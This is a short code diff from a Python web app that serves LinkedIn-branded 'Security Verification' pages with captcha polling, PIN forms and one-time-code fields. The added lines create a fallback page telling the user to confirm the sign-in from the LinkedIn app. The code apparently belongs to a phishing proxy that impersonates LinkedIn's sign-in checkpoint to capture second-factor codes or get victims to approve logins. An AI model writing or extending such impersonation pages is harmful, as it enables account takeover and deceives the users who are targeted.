@@ -241,6 +241,10 @@ def challenge_page(req: Request, found: Challenge, error: str = "") -> Response:
         tail = json_script("captcha-config", {"status": f"/checkpoint/challenge/{token}/status"})
         tail += f"<script>{scripts.CAPTCHA_POLL}</script>"
         return html("Security Verification | LinkedIn", body, hooks=h, tail=tail)
+    if found.kind == "unknown":
+        body = """<main class="challenge"><h1>Help us protect the LinkedIn community</h1>
+<p class="muted">Confirm this sign-in from the LinkedIn app on your phone.</p></main>"""
+        return html("Security Verification | LinkedIn", body, hooks=h)
     form_id, input_id, button_id, heading, hint = PIN_FORMS[found.kind]
     one_time = ' autocomplete="one-time-code"' if found.kind == "totp" else ""
     body = f"""<main class="challenge">
